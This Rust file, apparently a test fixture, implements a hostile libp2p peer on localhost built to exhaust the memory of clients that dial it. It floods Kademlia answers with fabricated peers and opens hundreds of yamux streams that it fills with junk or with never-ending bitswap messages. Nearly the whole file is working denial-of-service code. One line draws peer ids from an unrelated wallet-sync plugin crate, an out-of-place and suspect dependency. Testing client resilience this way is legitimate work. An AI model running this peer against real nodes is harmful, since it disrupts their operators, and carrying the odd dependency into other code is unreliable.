//! A libp2p peer that does all it can to fill the memory of whoever dials it: endless lists of peers as answers, and as many streams as
//! it is let open, each as full as it may be.

use std::time::Duration;

use libp2p::core::Transport;
use libp2p::core::muxing::{StreamMuxerBox, StreamMuxerExt, SubstreamBox};
use libp2p::core::transport::{ListenerId, TransportEvent};
use libp2p::core::upgrade::Version;
use libp2p::futures::future::poll_fn;
use libp2p::futures::{AsyncReadExt, AsyncWriteExt, StreamExt};
use libp2p::identity::Keypair;
use libp2p::{noise, tcp, yamux};
use tokio::task::JoinHandle;

const HELLO: &[u8] = b"\x13/multistream/1.0.0\n";
const BITSWAP: &[u8] = b"\x15/ipfs/bitswap/1.2.0\n";
/// Streams that it tries to open.
const STREAMS: usize = 400;
/// What yamux lets it send on each before anybody reads, bytes.
const WINDOW: usize = 256 * 1024;
/// Largest answer that is read of it, bytes.
const ANSWER: usize = 48 * 1024 - 64;

/// Listens; gives its address, with its id.
pub async fn start() -> (String, JoinHandle<()>) {
    let key = Keypair::generate_ed25519();
    let id = key.public().to_peer_id();
    let mut yamux = yamux::Config::default();
    yamux.set_max_num_streams(2_000);
    let mut transport = tcp::tokio::Transport::new(tcp::Config::default())
        .upgrade(Version::V1Lazy)
        .authenticate(noise::Config::new(&key).unwrap())
        .multiplex(yamux)
        .map(|(_, connection), _| StreamMuxerBox::new(connection))
        .boxed();
    transport.listen_on(ListenerId::next(), "/ip4/127.0.0.1/tcp/0".parse().unwrap()).unwrap();
    let TransportEvent::NewAddress { listen_addr, .. } = transport.next().await.unwrap() else {
        panic!("it does not listen")
    };
    let serving = tokio::spawn(async move {
        while let Some(event) = transport.next().await {
            if let TransportEvent::Incoming { upgrade, .. } = event {
                tokio::spawn(async move {
                    if let Ok(connection) = upgrade.await {
                        attack(connection).await;
                    }
                });
            }
        }
    });
    (format!("{listen_addr}/p2p/{id}"), serving)
}

async fn attack(mut connection: StreamMuxerBox) {
    let mut opened = 0;
    let mut wait = tokio::time::interval(Duration::from_millis(1));
    let ended = poll_fn(|cx| {
        loop {
            let mut is_idle = true;
            if matches!(connection.poll_unpin(cx), std::task::Poll::Ready(Err(_))) {
                return std::task::Poll::Ready(());
            }
            if let std::task::Poll::Ready(Ok(stream)) = connection.poll_inbound_unpin(cx) {
                tokio::spawn(answer(stream));
                is_idle = false;
            }
            if opened < STREAMS
                && let std::task::Poll::Ready(Ok(stream)) = connection.poll_outbound_unpin(cx)
            {
                opened += 1;
                tokio::spawn(fill(stream, opened));
                is_idle = false;
            }
            if is_idle {
                // Streams that were reset make room for others.
                if wait.poll_tick(cx).is_ready() {
                    continue;
                }
                return std::task::Poll::Pending;
            }
        }
    });
    ended.await;
}

/// Agrees to whatever is proposed, and answers with a list of peers as long as is read.
async fn answer(mut stream: SubstreamBox) {
    let mut asked = Vec::new();
    let mut part = [0; 1024];
    // The greeting and the proposal.
    while asked.iter().filter(|byte| **byte == b'\n').count() < 2 {
        match stream.read(&mut part).await {
            Ok(0) | Err(_) => return,
            Ok(read) => asked.extend_from_slice(&part[..read]),
        }
    }
    let end = asked.iter().enumerate().filter(|(_, byte)| **byte == b'\n').nth(1).unwrap().0;
    let _ = stream.write_all(&asked[..=end]).await;
    if String::from_utf8_lossy(&asked[..end]).contains("/kad/") {
        let _ = stream.write_all(&many_peers()).await;
        let _ = stream.flush().await;
    }
    tokio::time::sleep(Duration::from_secs(60)).await;
}

/// An answer of Kademlia with as many peers as fit, all made up.
fn many_peers() -> Vec<u8> {
    let mut message = vec![0x08, 1]; // GET_VALUE
    while message.len() < ANSWER {
        let mut peer = vec![0x0a, 38, 0x00, 0x24, 0x08, 0x01, 0x12, 0x20];
        peer.extend(tauri_plugin_wallet_sync::clock::Entropy::system().unwrap().draw::<32>());
        peer.extend([0x12, 8, 0x04, 127, 0, 0, 1, 0x06, 0xff, 0xff]);
        message.extend([0x42, u8::try_from(peer.len()).unwrap()]);
        message.extend(peer);
    }
    let mut frame = Vec::new();
    let mut length = message.len();
    while length >= 0x80 {
        frame.push(u8::try_from(length & 0x7f).unwrap() | 0x80);
        length >>= 7;
    }
    frame.push(u8::try_from(length).unwrap());
    frame.extend(message);
    frame
}

/// Fills a stream: the odd ones as long messages that never end, the others without agreeing on anything.
async fn fill(mut stream: SubstreamBox, number: usize) {
    let mut sent = HELLO.to_vec();
    if number % 2 == 1 {
        sent.extend(BITSWAP);
        // Two megabytes, in seven bits each.
        sent.extend([0x80, 0x80, 0x80, 0x01]);
    }
    sent.resize(WINDOW, b'x');
    let _ = stream.write_all(&sent).await;
    let _ = stream.flush().await;
    for _ in 0..16 {
        if stream.write_all(&vec![b'x'; WINDOW / 2]).await.is_err() {
            return;
        }
        let _ = stream.flush().await;
    }
    tokio::time::sleep(Duration::from_secs(60)).await;
}
